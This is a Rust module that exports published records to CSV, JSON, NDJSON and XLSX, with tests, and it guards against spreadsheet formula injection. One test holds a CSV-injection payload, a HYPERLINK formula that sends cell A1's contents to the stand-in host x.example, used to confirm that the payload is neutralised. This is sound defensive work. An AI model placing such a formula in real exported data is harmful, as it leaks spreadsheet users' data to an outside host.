//! The one mapping from a published record to its dataset representation, shared by every
//! format so CSV, JSON, NDJSON, XLSX and the per-record JSON files always agree.
//!
//! Columns: `id`, `published`, `notice_until`, the collection's fields in `site.yaml` order
//! (fields marked `personal: omit` are left out entirely), then `history`. Values:
//! - lists of scalars: a JSON array in JSON, the items joined with `"; "` in CSV and XLSX;
//! - references: the target record's id, empty when the target is not on notice (so the
//!   dataset never names a record that is not public, and its foreign keys always resolve);
//! - objects, lists of objects, geo points and `history`: nested JSON in JSON, the same JSON
//!   written compactly in a CSV or XLSX cell;
//! - dates `YYYY-MM-DD`; money a number of yuan; absent values `null` / an empty cell;
//! - in CSV and XLSX only, text that a spreadsheet would run as a formula (it begins with `=`,
//!   `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`, as OWASP recommends against
//!   CSV injection; numbers, dates and JSON/NDJSON keep their exact values.

use crate::config::{Collection, FieldDef, FieldType, Personal};
use crate::domain::RecordId;
use crate::notice::{PublicRecord, PublishedSet};
use crate::record::{Money, Value};
use chrono::NaiveDate;
use serde_json::{json, Map, Value as Json};
use std::borrow::Cow;
use std::collections::HashSet;
use std::io::{self, Write};

/// Separator of list items in CSV and XLSX cells.
pub const LIST_SEPARATOR: &str = "; ";

/// First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
/// (OWASP, "CSV Injection"): a record's text must never run in a journalist's spreadsheet.
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a spreadsheet cell's text: with a leading `'` when it would start a formula.
pub fn neutralise_formula(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_TRIGGERS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// What a column holds.
#[derive(Debug, Clone, Copy)]
pub enum ColumnKind<'a> {
    Id,
    Published,
    NoticeUntil,
    Field(usize, &'a FieldDef),
    History,
}

#[derive(Debug, Clone)]
pub struct Column<'a> {
    /// Stable key: the CSV header and the JSON member name.
    pub key: &'a str,
    pub kind: ColumnKind<'a>,
}

/// The columns of a collection's datasets, in order.
pub fn columns(collection: &Collection) -> Vec<Column<'_>> {
    let mut cols = vec![
        Column {
            key: "id",
            kind: ColumnKind::Id,
        },
        Column {
            key: "published",
            kind: ColumnKind::Published,
        },
        Column {
            key: "notice_until",
            kind: ColumnKind::NoticeUntil,
        },
    ];
    cols.extend(
        collection
            .fields
            .iter()
            .enumerate()
            .filter(|(_, f)| f.personal != Personal::Omit)
            .map(|(i, f)| Column {
                key: &f.key,
                kind: ColumnKind::Field(i, f),
            }),
    );
    cols.push(Column {
        key: "history",
        kind: ColumnKind::History,
    });
    cols
}

/// One cell of a dataset row.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Null,
    Text(String),
    Integer(i64),
    Money(Money),
    Date(NaiveDate),
    Bool(bool),
    /// Scalar items: an array in JSON, joined with [`LIST_SEPARATOR`] in a cell.
    List(Vec<Cell>),
    /// Structured data: nested in JSON, compact JSON text in a cell.
    Json(Json),
}

impl Cell {
    pub fn json(&self) -> Json {
        match self {
            Cell::Null => Json::Null,
            Cell::Text(s) => Json::String(s.clone()),
            Cell::Integer(i) => json!(i),
            Cell::Money(m) => money_json(*m),
            Cell::Date(d) => Json::String(crate::record::iso_date(*d)),
            Cell::Bool(b) => Json::Bool(*b),
            Cell::List(items) => Json::Array(items.iter().map(Cell::json).collect()),
            Cell::Json(j) => j.clone(),
        }
    }

    /// The cell as CSV text (and XLSX text for cells that are not numbers, dates or booleans).
    pub fn text(&self) -> Cow<'_, str> {
        match self {
            Cell::Null => Cow::Borrowed(""),
            Cell::Text(s) => Cow::Borrowed(s),
            Cell::Integer(i) => Cow::Owned(i.to_string()),
            Cell::Money(m) => Cow::Owned(m.plain()),
            Cell::Date(d) => Cow::Owned(crate::record::iso_date(*d)),
            Cell::Bool(b) => Cow::Borrowed(if *b { "true" } else { "false" }),
            Cell::List(items) => Cow::Owned(
                items
                    .iter()
                    .map(|i| i.text().into_owned())
                    .collect::<Vec<_>>()
                    .join(LIST_SEPARATOR),
            ),
            Cell::Json(j) => Cow::Owned(j.to_string()),
        }
    }

    /// The cell as text in a spreadsheet-bound file (CSV, XLSX text cells): [`Cell::text`],
    /// with text that would start a formula neutralised. Numbers are left as they are, so a
    /// negative integer stays a number.
    pub fn spreadsheet_text(&self) -> Cow<'_, str> {
        match self {
            Cell::Text(text) => neutralise_formula(text),
            // Their text is built for the cell anyway: quoted in place when it must be.
            Cell::List(_) | Cell::Json(_) => {
                let mut text = self.text().into_owned();
                if text.starts_with(FORMULA_TRIGGERS) {
                    text.insert(0, '\'');
                }
                Cow::Owned(text)
            }
            Cell::Null | Cell::Integer(_) | Cell::Money(_) | Cell::Date(_) | Cell::Bool(_) => {
                self.text()
            }
        }
    }
}

/// Money as a JSON number of yuan, written exactly as [`Money::plain`] (no float noise).
fn money_json(m: Money) -> Json {
    m.plain()
        .parse::<serde_json::Number>()
        .map_or(Json::Null, Json::Number)
}

/// Which record ids are on notice, per collection: a reference to any other id is left empty.
pub struct OnNotice(Vec<HashSet<RecordId>>);

impl OnNotice {
    pub fn new(set: &PublishedSet) -> Self {
        OnNotice(
            set.collections
                .iter()
                .map(|pc| pc.records.iter().map(|r| r.record.id.clone()).collect())
                .collect(),
        )
    }

    fn contains(&self, collection: usize, id: &RecordId) -> bool {
        self.0.get(collection).is_some_and(|ids| ids.contains(id))
    }
}

/// The dataset row of one published record, aligned with [`columns`].
pub fn row(columns: &[Column], record: &PublicRecord, on_notice: &OnNotice) -> Vec<Cell> {
    let r = &record.record;
    columns
        .iter()
        .map(|col| match col.kind {
            ColumnKind::Id => Cell::Text(r.id.to_string()),
            ColumnKind::Published => Cell::Date(r.notice.published),
            ColumnKind::NoticeUntil => record.last_day.map_or(Cell::Null, Cell::Date),
            ColumnKind::Field(i, def) => r
                .value(i)
                .map_or(Cell::Null, |v| value_cell(def, v, on_notice)),
            ColumnKind::History if r.notice.history.is_empty() => Cell::Null,
            ColumnKind::History => Cell::Json(Json::Array(
                r.notice
                    .history
                    .iter()
                    .map(|h| json!({"date": crate::record::iso_date(h.date), "summary": h.summary}))
                    .collect(),
            )),
        })
        .collect()
}

/// The dataset cell of one field value.
pub fn value_cell(def: &FieldDef, value: &Value, on_notice: &OnNotice) -> Cell {
    match value {
        Value::Text(s) | Value::Markdown(s) | Value::Enum(s) | Value::Url(s) => {
            Cell::Text(s.clone())
        }
        Value::CreditCode(c) => Cell::Text(c.to_string()),
        Value::CmaNumber(c) => Cell::Text(c.to_string()),
        Value::Date(d) => Cell::Date(*d),
        Value::Integer(i) => Cell::Integer(*i),
        Value::Money(m) => Cell::Money(*m),
        Value::Bool(b) => Cell::Bool(*b),
        Value::Ref(id) => match def.ty {
            FieldType::Ref(target) if on_notice.contains(target, id) => Cell::Text(id.to_string()),
            _ => Cell::Null,
        },
        Value::Geo(g) => Cell::Json(json!({"lat": g.lat, "lon": g.lon})),
        Value::Object(values) => Cell::Json(object_json(def, values, on_notice)),
        Value::List(items)
            if items
                .iter()
                .any(|i| matches!(i, Value::Object(_) | Value::Geo(_))) =>
        {
            Cell::Json(Json::Array(
                items
                    .iter()
                    .map(|i| value_cell(def, i, on_notice).json())
                    .collect(),
            ))
        }
        Value::List(items) => {
            let cells: Vec<Cell> = items
                .iter()
                .map(|i| value_cell(def, i, on_notice))
                .filter(|c| *c != Cell::Null)
                .collect();
            if cells.is_empty() {
                Cell::Null
            } else {
                Cell::List(cells)
            }
        }
    }
}

fn object_json(def: &FieldDef, values: &[Option<Value>], on_notice: &OnNotice) -> Json {
    let FieldType::Object(sub) = &def.ty else {
        return Json::Null;
    };
    let mut map = Map::new();
    for (f, v) in sub.iter().zip(values) {
        if f.personal == Personal::Omit {
            continue;
        }
        let j = v
            .as_ref()
            .map_or(Json::Null, |v| value_cell(f, v, on_notice).json());
        map.insert(f.key.clone(), j);
    }
    Json::Object(map)
}

/// The record as one compact JSON object: the line of the NDJSON file, the item of the JSON
/// array and the whole per-record `<collection>/<id>.json` file (plus a newline).
pub fn json_line(columns: &[Column], cells: &[Cell]) -> String {
    // Streamed rather than built as a `serde_json::Value` first: the same text, without a map
    // and a copy of every value for each of 100,000 records.
    serde_json::to_string(&JsonRow { columns, cells }).unwrap_or_default()
}

struct JsonRow<'a> {
    columns: &'a [Column<'a>],
    cells: &'a [Cell],
}

impl serde::Serialize for JsonRow<'_> {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        use serde::ser::SerializeMap;
        let mut map = serializer.serialize_map(Some(self.columns.len()))?;
        for (col, cell) in self.columns.iter().zip(self.cells) {
            map.serialize_entry(col.key, cell)?;
        }
        map.end()
    }
}

/// A cell as JSON, written exactly as [`Cell::json`] would be.
impl serde::Serialize for Cell {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        match self {
            Cell::Null => serializer.serialize_none(),
            Cell::Text(s) => serializer.serialize_str(s),
            Cell::Integer(i) => serializer.serialize_i64(*i),
            Cell::Money(m) => money_json(*m).serialize(serializer),
            Cell::Date(d) => serializer.serialize_str(&crate::record::iso_date(*d)),
            Cell::Bool(b) => serializer.serialize_bool(*b),
            Cell::List(items) => serializer.collect_seq(items),
            Cell::Json(j) => j.serialize(serializer),
        }
    }
}

/// A CSV file: UTF-8 with a byte-order mark (so Excel detects UTF-8), a header of column keys,
/// RFC 4180 quoting and CRLF line ends; text that would start a formula is neutralised.
pub fn write_csv<W: Write>(columns: &[Column], rows: &[Vec<Cell>], out: W) -> io::Result<W> {
    let mut out = out;
    out.write_all("\u{feff}".as_bytes())?;
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(out);
    w.write_record(columns.iter().map(|c| c.key))?;
    for row in rows {
        for cell in row {
            w.write_field(cell.spreadsheet_text().as_bytes())?;
        }
        w.write_record(std::iter::empty::<&[u8]>())?;
    }
    w.into_inner().map_err(|e| e.into_error())
}

/// The JSON array file and the NDJSON file, written together from the records' JSON lines,
/// given a batch at a time.
pub struct JsonFiles<A, N> {
    array: A,
    ndjson: N,
    first: bool,
}

impl<A: Write, N: Write> JsonFiles<A, N> {
    pub fn new(array: A, ndjson: N) -> Self {
        JsonFiles {
            array,
            ndjson,
            first: true,
        }
    }

    /// The array holds one record per line, so it diffs line by line and stays readable; the
    /// NDJSON file is one record per line and nothing else.
    pub fn lines(&mut self, lines: &[String]) -> io::Result<()> {
        for line in lines {
            let open: &[u8] = if self.first { b"[\n" } else { b",\n" };
            self.first = false;
            self.array.write_all(open)?;
            self.array.write_all(line.as_bytes())?;
            self.ndjson.write_all(line.as_bytes())?;
            self.ndjson.write_all(b"\n")?;
        }
        Ok(())
    }

    pub fn finish(mut self) -> io::Result<(A, N)> {
        let close: &[u8] = if self.first { b"[\n]\n" } else { b"\n]\n" };
        self.array.write_all(close)?;
        Ok((self.array, self.ndjson))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn field(ty: FieldType, list: bool) -> FieldDef {
        FieldDef {
            key: "f".into(),
            label: "字段".into(),
            description: None,
            ty,
            list,
            required: false,
            unique: false,
            facet: None,
            search_weight: 0.0,
            identifier: None,
            personal: Personal::Public,
            aliases: Vec::new(),
        }
    }

    fn nothing_on_notice() -> OnNotice {
        OnNotice(vec![HashSet::new()])
    }

    #[test]
    fn lists_are_arrays_in_json_and_joined_in_cells() {
        let f = field(FieldType::Text, true);
        let v = Value::List(vec![
            Value::Text("食品".into()),
            Value::Text("化妆品".into()),
        ]);
        let cell = value_cell(&f, &v, &nothing_on_notice());
        assert_eq!(cell.json(), json!(["食品", "化妆品"]));
        assert_eq!(cell.text(), "食品; 化妆品");
    }

    #[test]
    fn money_is_an_exact_number() {
        let cell = Cell::Money(Money(1_234_550));
        assert_eq!(cell.json().to_string(), "12345.5");
        assert_eq!(cell.text(), "12345.5");
        assert_eq!(Cell::Money(Money(30_000)).json().to_string(), "300");
    }

    #[test]
    fn references_to_records_not_on_notice_are_empty() {
        let f = field(FieldType::Ref(0), false);
        let id = RecordId::parse("lab-1").unwrap();
        let mut on = nothing_on_notice();
        assert_eq!(value_cell(&f, &Value::Ref(id.clone()), &on), Cell::Null);
        on.0[0].insert(id.clone());
        assert_eq!(
            value_cell(&f, &Value::Ref(id), &on),
            Cell::Text("lab-1".into())
        );
    }

    #[test]
    fn objects_are_nested_json_and_compact_text() {
        let sub = vec![
            FieldDef {
                key: "number".into(),
                ..field(FieldType::Text, false)
            },
            FieldDef {
                key: "secret".into(),
                personal: Personal::Omit,
                ..field(FieldType::Text, false)
            },
            FieldDef {
                key: "until".into(),
                ..field(FieldType::Date, false)
            },
        ];
        let f = field(FieldType::Object(sub), true);
        let v = Value::List(vec![Value::Object(vec![
            Some(Value::Text("C-1".into())),
            None,
            None,
        ])]);
        let cell = value_cell(&f, &v, &nothing_on_notice());
        assert_eq!(cell.json(), json!([{"number": "C-1", "until": null}]));
        assert_eq!(cell.text(), r#"[{"number":"C-1","until":null}]"#);
    }

    fn col(key: &'static str, kind: ColumnKind<'static>) -> Column<'static> {
        Column { key, kind }
    }

    #[test]
    fn streamed_json_lines_equal_the_json_values() {
        let cols = [
            col("id", ColumnKind::Id),
            col("history", ColumnKind::History),
            col("n", ColumnKind::Published),
            col("m", ColumnKind::Published),
            col("list", ColumnKind::Published),
        ];
        let date = NaiveDate::from_ymd_opt(2024, 2, 29).expect("date");
        let rows = [
            vec![
                Cell::Text("第一行\n\"引号\" </script>\u{1}".into()),
                Cell::Json(json!([{"date": "2024-01-02", "summary": "改"}])),
                Cell::Integer(-42),
                Cell::Money(Money(1_234_550)),
                Cell::List(vec![Cell::Date(date), Cell::Bool(true), Cell::Null]),
            ],
            vec![
                Cell::Null,
                Cell::Null,
                Cell::Integer(i64::MAX),
                Cell::Money(Money(5)),
                Cell::List(vec![]),
            ],
        ];
        for row in &rows {
            let mut map = Map::new();
            for (col, cell) in cols.iter().zip(row) {
                map.insert(col.key.to_string(), cell.json());
            }
            assert_eq!(json_line(&cols, row), Json::Object(map).to_string());
        }
    }

    #[test]
    fn json_files_hold_the_lines_as_an_array_and_as_ndjson() {
        let lines = [r#"{"id":"a"}"#.to_string(), r#"{"id":"b"}"#.to_string()];
        let mut files = JsonFiles::new(Vec::new(), Vec::new());
        files.lines(&lines[..1]).unwrap();
        files.lines(&lines[1..]).unwrap();
        let (array, ndjson) = files.finish().unwrap();
        let array = String::from_utf8(array).unwrap();
        assert_eq!(array, "[\n{\"id\":\"a\"},\n{\"id\":\"b\"}\n]\n");
        let parsed: Json = serde_json::from_str(&array).unwrap();
        assert_eq!(parsed, json!([{"id": "a"}, {"id": "b"}]));
        assert_eq!(
            String::from_utf8(ndjson).unwrap(),
            "{\"id\":\"a\"}\n{\"id\":\"b\"}\n"
        );

        let (empty, none) = JsonFiles::new(Vec::new(), Vec::new()).finish().unwrap();
        assert_eq!(empty, b"[\n]\n");
        assert!(none.is_empty());
    }

    #[test]
    fn text_that_would_start_a_formula_gets_a_quote_in_spreadsheets_only() {
        let payload = "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"x\")";
        for text in [payload, "-", "+8613900000000", "@SUM(A1)", "\tx", "\rx"] {
            let cell = Cell::Text(text.into());
            assert_eq!(cell.spreadsheet_text(), format!("'{text}"), "{text:?}");
            assert_eq!(cell.text(), text, "{text:?}");
            assert_eq!(cell.json(), json!(text), "{text:?}");
        }
        for text in ["西安", "a-b", "'=already quoted", " =x", ""] {
            assert_eq!(Cell::Text(text.into()).spreadsheet_text(), text);
        }
        let list = Cell::List(vec![Cell::Text("=1+1".into()), Cell::Text("b".into())]);
        assert_eq!(list.spreadsheet_text(), "'=1+1; b");
        assert_eq!(Cell::Integer(-42).spreadsheet_text(), "-42");
        assert_eq!(Cell::Money(Money(5)).spreadsheet_text(), "0.05");
    }

    #[test]
    fn csv_has_bom_crlf_and_quotes() {
        let cols = [
            col("id", ColumnKind::Id),
            col("history", ColumnKind::History),
        ];
        let rows = vec![vec![
            Cell::Text("a".into()),
            Cell::Text("第一行\n\"引号\", 逗号".into()),
        ]];
        let bytes = write_csv(&cols, &rows, Vec::new()).unwrap();
        let text = String::from_utf8(bytes).unwrap();
        assert_eq!(
            text,
            "\u{feff}id,history\r\na,\"第一行\n\"\"引号\"\", 逗号\"\r\n"
        );
    }
}
